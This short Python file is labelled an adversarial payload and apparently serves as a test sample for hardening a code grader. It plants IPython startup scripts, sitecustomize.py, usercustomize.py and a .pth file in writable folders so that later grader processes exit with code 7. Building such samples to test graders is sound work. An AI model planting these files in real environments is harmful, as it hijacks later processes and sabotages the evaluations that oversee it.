# Adversarial payload: leave start-up files (IPython's, site's) wherever it can write, so that
# a later process of the grader would run them.
# verdict: ok; passes: all
import os as _os

_code = "import os\nos._exit(7)\n"
for _folder in [_os.path.expanduser("~/.ipython/profile_default/startup"),
                _os.path.join(_os.getcwd(), ".ipython/profile_default/startup"),
                _os.environ.get("IPYTHONDIR", "/nonexistent") + "/profile_default/startup",
                _os.environ.get("TMPDIR", "/tmp"), _os.getcwd()]:
    try:
        _os.makedirs(_folder, exist_ok=True)
        for _name in ("00-grader.py", "sitecustomize.py", "usercustomize.py"):
            with open(_os.path.join(_folder, _name), "w") as _f:
                _f.write(_code)
        with open(_os.path.join(_folder, "evil.pth"), "w") as _f:
            _f.write("import os; os._exit(7)\n")
    except OSError:
        pass
